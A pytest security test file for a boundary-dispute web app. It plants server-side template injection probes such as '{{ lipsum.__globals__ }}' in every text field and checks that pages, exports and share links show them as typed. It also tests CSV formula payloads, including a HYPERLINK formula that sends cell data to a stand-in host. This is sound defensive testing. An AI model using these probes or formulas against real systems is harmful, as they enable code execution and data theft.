"""User text is data, never a template: template syntax in every text field reads back as typed.

Every user-writable text column of every record of the demo is rewritten to hold a probe
(``{{7*7}}``, ``{% print 1 %}``, ``${7*7}``, ``{{ lipsum.__globals__ }}`` or
``{% endfor %}``), then every page, map, export (HTML, KML, KMZ, PDF, GeoJSON, CSV,
Shapefile, GeoPackage), report (PDF, DOCX, HTML), OGC API answer and share link reachable by
an administrator or a share link's visitor is read: each probe must appear exactly as typed
(«49», «1» or a dict in its place would mean the server ran it as code), and no page may
fail. A last test keeps the code from growing new ways to compile text.
"""

from __future__ import annotations

import csv
import html
import io
import re
import sqlite3
import subprocess
import zipfile
from collections import Counter
from pathlib import Path
from urllib.parse import urlsplit

import docx
import jinja2
import pandas as pd
import pytest
from limites_testing import demo_app
from sqlalchemy import Enum, String, select

from boundaries.export_io import OutLayer, csv_text
from cases.sharing.links import create_share
from cases.storage.db import unit_of_work
from cases.storage.models import Base, DisputeZone, Municipality

# "{% endfor %}" cannot compile: any data handed to Jinja as a template, even one whose
# output is then discarded, fails the page (compiling alone folds constants such as 9**9**9).
PROBES = ("{% endfor %}", "{% print 1 %}", "${7*7}", "{{ lipsum.__globals__ }}", "{{7*7}}")
MARK = "Sonda «"
ADMIN = "administradora"

# Identifiers, hashes, addresses and codes: validated or made by the program, not free text.
_NOT_FREE_TEXT = {
    "cvegeo", "fingerprint", "token_hash", "password_hash", "username", "client_uuid", "url",
    "media_type", "sha256", "scope_kind", "record_type", "from_status", "to_status", "ip",
}
# Each kind of page is read this many times (ids and numbers in its address count as one).
_PER_KIND = 2
# Downloads and reports are read all: each zone's, case's and quarter's is its own document.
_EVERY = re.compile(r"^/(exportar|informe)/|/descargar/")
_SKIP = re.compile(r"^/(static|vendor|cuenta/salir)|/miniatura/|^/campo/sw\.js")


def probe(number: int) -> str:
    """The text planted in the fields of the record ``number``."""
    return f"{MARK}{PROBES[number % len(PROBES)]}» {number}"


def text_columns() -> dict[type, list[str]]:
    """Every model with the user-writable text columns it holds."""
    found = {}
    for mapper in Base.registry.mappers:
        columns = [
            column.key for column in mapper.columns
            if isinstance(column.type, String) and not isinstance(column.type, Enum)
            and column.key not in _NOT_FREE_TEXT and column.table is mapper.local_table
        ]
        if columns and "id" in mapper.columns:
            found[mapper.class_] = columns
    return found


def _plant(session) -> None:
    for model, columns in text_columns().items():
        for row in session.scalars(select(model)):
            for key in columns:
                setattr(row, key, probe(row.id))


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    app = demo_app(tmp_path_factory.mktemp("plantillas"), prepare=_plant)
    yield app
    app.extensions["limites_engine"].dispose()


@pytest.fixture(scope="module")
def share_links(app) -> list[str]:
    with app.extensions["limites_sessions"]() as session, unit_of_work(session):
        zone = session.scalars(select(DisputeZone).order_by(DisputeZone.id)).first()
        links = [
            create_share(session, None, zone=zone.id, note=probe(1)),
            create_share(session, None, case=1, include_notes=True, include_attachments=True),
            create_share(session, None, layers=["zonas", "recorridos", "hallazgos", "sedes"]),
        ]
    return [f"/c/{link.token}" for link in links]


def readable(response) -> str:
    """The text of an answer, whatever its format, as a person or a program would read it."""
    body = response.get_data()
    kind = response.mimetype
    if kind.startswith("image/") or kind == "application/javascript":
        return ""
    if kind == "application/pdf":
        text = subprocess.run(["pdftotext", "-raw", "-", "-"], input=body, capture_output=True,
                              check=True).stdout.decode("utf-8")
    elif kind.endswith("wordprocessingml.document"):
        document = docx.Document(io.BytesIO(body))
        cells = [cell.text for table in document.tables for row in table.rows
                 for cell in row.cells]
        text = "\n".join([p.text for p in document.paragraphs] + cells)
    elif kind in ("application/zip", "application/vnd.google-earth.kmz"):
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            text = "\n".join(archive.read(name).decode("utf-8", "replace")
                             for name in archive.namelist())
    elif kind == "application/geopackage+sqlite3":
        text = _gpkg_text(body)
    else:
        text = body.decode("utf-8")
    return normalized(text)


def normalized(text: str) -> str:
    """``text`` with JSON and HTML escapes decoded and runs of white space as one space."""
    text = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), text)
    return re.sub(r"\s+", " ", html.unescape(text))


def _gpkg_text(body: bytes) -> str:
    db = sqlite3.connect(":memory:")
    db.deserialize(body)
    tables = [name for (name,) in db.execute(
        "SELECT table_name FROM gpkg_contents WHERE data_type IN ('features', 'attributes')")]
    text = []
    for table in tables:
        for row in db.execute(f'SELECT * FROM "{table}"'):
            text.extend(value for value in row if isinstance(value, str))
    db.close()
    return "\n".join(text)


def evaluated(text: str) -> list[str]:
    """Every place where a probe does not read as typed (a truncated label may end in «…»)."""
    wrong = []
    for found in re.finditer(re.escape(MARK), text):
        rest = text[found.end():found.end() + 40]
        if any(rest.startswith(p + "»") for p in PROBES):
            continue
        head, cut, _ = rest.partition("…")
        if cut and any(p.startswith(head) for p in PROBES):
            continue
        wrong.append(text[found.start():found.end() + 40])
    return wrong


def _links(response, text: str) -> list[str]:
    if response.mimetype == "text/html":
        found = re.findall(r'href="([^"]+)"', response.get_data(as_text=True))
    elif response.is_json:
        found = re.findall(r'"href": ?"([^"]+)"', response.get_data(as_text=True))
    else:
        return []
    links = []
    for link in found:
        parts = urlsplit(html.unescape(link))
        if parts.netloc not in ("", "localhost") or not parts.path.startswith("/"):
            continue
        links.append(parts.path + (f"?{parts.query}" if parts.query else ""))
    return links


def _kind(url: str) -> str:
    return re.sub(r"[0-9a-f]{16,}|\d+", "N", url)


def crawl(client, *start: str, inside: str = "/") -> dict[str, tuple[int, str]]:
    """Read every kind of page reachable from ``start`` under ``inside``: url → (status, text)."""
    seen: dict[str, tuple[int, str]] = {}
    kinds: Counter[str] = Counter()
    queue = list(start)
    while queue:
        url = queue.pop(0)
        if url in seen or _SKIP.search(url) or not url.startswith(inside):
            continue
        if not _EVERY.search(url):
            if kinds[_kind(url)] >= _PER_KIND:
                continue
            kinds[_kind(url)] += 1
        response = client.get(url)
        text = readable(response) if response.status_code == 200 else ""
        seen[url] = (response.status_code, text)
        if response.status_code == 200:
            queue.extend(_links(response, text))
    return seen


@pytest.fixture(scope="module")
def admin_pages(app) -> dict[str, tuple[int, str]]:
    # The comparison of two versions of a limit is reached through a form, not a link.
    with app.extensions["limites_sessions"]() as session:
        comparisons = [
            f"/analisis/comparar?municipio={m.cvegeo}&anterior={ids[0]}&nueva={ids[1]}"
            for m in session.scalars(select(Municipality).order_by(Municipality.id))
            if len(ids := sorted(v.id for v in m.versions)) > 1
        ]
    return crawl(app.test_client().login(ADMIN), "/", *comparisons)


@pytest.fixture(scope="module")
def shared_pages(app, share_links) -> dict[str, tuple[int, str]]:
    pages = {}
    for link in share_links:
        pages.update(crawl(app.test_client(), link, f"{link}/ogcapi/", inside=link))
    return pages


def test_every_text_field_holds_a_probe(app):
    planted = {f"{model.__tablename__}.{key}" for model, keys in text_columns().items()
               for key in keys}
    assert planted >= {
        "dispute_zone.name", "dispute_zone.description", "case_file.number", "case_file.title",
        "meeting.title", "meeting.summary", "meeting.participants", "agreement.text",
        "inspection.title", "inspection.summary", "finding.description", "site.name",
        "institution.name", "person.name", "person.position", "indicator.name",
        "attachment.label", "attachment.original_name", "evidence.label",
        "boundary_version.source", "boundary_version.legal_reference", "municipality.name",
        "boundary_frame.name", "watercourse.name", "user_account.display_name", "share_link.note",
    }
    with app.extensions["limites_sessions"]() as session:
        for model, keys in text_columns().items():
            for row in session.scalars(select(model)):
                assert all(getattr(row, key) == probe(row.id) for key in keys)


@pytest.mark.parametrize("zone", [1, 2, 3, 4, 5])
def test_the_standalone_map_shows_names_as_typed(app, zone):
    """The hole of issue 16: the HTML export compiled the zone's name in its title."""
    response = app.test_client().login("lectora").get(f"/exportar/zona/{zone}.html")
    assert response.status_code == 200
    text = readable(response)
    assert f"{probe(zone)}</title>" in text
    assert probe(zone) in text
    assert not evaluated(text)


@pytest.mark.parametrize("url", ["/mapa/", "/zonas/5", "/expedientes/1", "/recorridos/1",
                                 "/sitios/1", "/exportar/todo.html"])
def test_no_data_reaches_a_template_compiler(app, monkeypatch, url):
    """Not even compiled and thrown away: parsing alone folds constants such as 9**9**9."""
    compiled = []
    compile_source = jinja2.Environment.compile

    def recording(self, source, *args, **kwargs):
        compiled.append(source if isinstance(source, str) else "")
        return compile_source(self, source, *args, **kwargs)

    monkeypatch.setattr(jinja2.Environment, "compile", recording)
    monkeypatch.delitem(app.extensions, "limites_map_cache", raising=False)
    assert app.test_client().login(ADMIN).get(url).status_code == 200
    assert compiled, "nothing was compiled: the check saw nothing"
    assert not [source for source in compiled if MARK in source]


def test_the_export_command_writes_names_as_typed(app, tmp_path):
    out = tmp_path / "zona.html"
    result = app.test_cli_runner().invoke(
        args=["export", "--zone", probe(4), "--format", "html", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    text = normalized(out.read_text("utf-8"))
    assert probe(4) in text and not evaluated(text)


def _problems(pages: dict[str, tuple[int, str]]) -> list[str]:
    problems = []
    for url, (status, text) in pages.items():
        if status >= 500:
            problems.append(f"{url}: {status}")
        problems.extend(f"{url}: {wrong!r}" for wrong in evaluated(text))
    return problems


def test_no_page_runs_the_probes(admin_pages):
    assert not _problems(admin_pages)


def test_no_shared_page_runs_the_probes(shared_pages):
    assert not _problems(shared_pages)


@pytest.mark.parametrize("kind", [
    r"^/$", r"^/mapa/$", r"^/zonas/\d+$", r"^/reuniones/\d+$", r"^/recorridos/\d+$",
    r"^/expedientes/\d+$", r"^/sitios/\d+$", r"^/indicadores/$", r"^/admin/registro$",
    r"^/editar/[a-z-]+/\d+$", r"^/analisis/", r"^/analisis/comparar\?.*nueva=\d+",
    *(rf"^/exportar/(zona|expediente)/\d+\.{fmt}$"
      for fmt in ("html", "kml", "kmz", "pdf", "gpkg", "csv", "geojson", "shp")),
    r"^/informe/.+\.pdf$", r"^/informe/.+\.docx$", r"^/informe/.+\.html$",
    r"^/ogcapi/collections/[a-z]+/items(\?|$)", r"^/ogcapi/collections/[a-z]+/items/\d+",
])
def test_the_probes_are_read_back_everywhere(admin_pages, kind):
    """The crawl reached this kind of page and found the planted text in it, as typed."""
    texts = [text for url, (status, text) in admin_pages.items() if re.search(kind, url)]
    assert texts, f"no page of kind {kind} was reached"
    assert any(MARK in text for text in texts), f"no probe found in {kind}"


@pytest.mark.parametrize("kind", [
    r"^/c/[\w-]+$", r"/descargar/html$", r"/descargar/kml$", r"/descargar/pdf$",
    r"/descargar/gpkg$", r"/descargar/csv$", r"/ogcapi/collections/[a-z]+/items",
])
def test_the_probes_are_read_back_through_share_links(shared_pages, kind):
    texts = [text for url, (status, text) in shared_pages.items() if re.search(kind, url)]
    assert texts, f"no shared page of kind {kind} was reached"
    assert any(MARK in text for text in texts), f"no probe found in {kind}"


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://x.example/?"&A1,"Ver")', "+1+1",
                                     "-2+3", "@SUMA(A1)", "\t=1"])
def test_csv_text_never_starts_a_formula(formula):
    """Excel runs a cell starting with =, +, -, @ as a formula: text ones get a ' first."""
    layer = OutLayer("reuniones", pd.DataFrame({"titulo": [formula], "numero": [-3]}),
                     {"titulo": "str", "numero": "int"})
    assert list(csv.reader(io.StringIO(csv_text(layer))))[1] == ["'" + formula, "-3"]


ROOT = Path(__file__).resolve().parents[2]
# Ways to compile a string as a template: Jinja's, and branca's Element, which compiles its
# string argument. A class attribute ``_template = Template("""...""")`` is code, not data.
_COMPILERS = re.compile(
    r"render_template_string|from_string\(|(?<!\w)Environment\(|(?<!\w)(?<!ET\.)Element\("
    r"|(?<!\w)Template\((?!\s*$|\s*[\"'])|\.get_root\(\)\.render\("
)


@pytest.mark.parametrize("package", ["geo_app", "cases", "boundaries"])
def test_no_code_compiles_a_string_but_the_figure_renderer(package):
    found = [
        f"{path.relative_to(ROOT)}:{number}: {line.strip()}"
        for path in sorted((ROOT / package).rglob("*.py"))
        if path.name != "figure.py" and "migrations" not in path.parts
        for number, line in enumerate(path.read_text("utf-8").splitlines(), 1)
        if _COMPILERS.search(line) and not line.lstrip().startswith(">>>")
    ]
    assert not found
